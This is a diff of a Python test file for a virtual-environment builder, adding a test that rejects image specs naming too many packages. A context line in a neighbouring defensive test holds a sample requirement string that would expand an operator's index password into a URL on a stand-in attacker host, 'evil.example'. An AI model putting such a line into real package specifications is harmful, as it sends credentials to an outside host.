@@ -128,6 +128,14 @@ async def test_t45_a_long_line_is_refused_at_once(builder: VenvBuilder) -> None:
     assert time.process_time() - before < 20  # minutes, where it is the square of the length
 
 
+async def test_t45_an_image_names_no_more_packages_than_can_be_looked_for(builder: VenvBuilder) -> None:
+    many = tuple(f"thing{number}" for number in range(1000))
+    with pytest.raises(Invalid, match="at most 1000 packages"):
+        await builder.ready(ImageSpec(pip_packages=many, requirements=("six",)), progress=quiet)
+    with pytest.raises(Invalid, match="at most 1000 packages"):
+        await builder.ready(ImageSpec(apt_packages=(*many, "git")), progress=quiet)
+
+
 async def test_t32_a_package_asks_for_no_variable_of_towers(builder: VenvBuilder) -> None:
     """The installer would put the password of the operator's index into the URL, and into its error."""
     for line in ("thing @ https://evil.example/${UV_INDEX_CORP_PASSWORD}/thing-1-py3-none-any.whl", "a$b"):
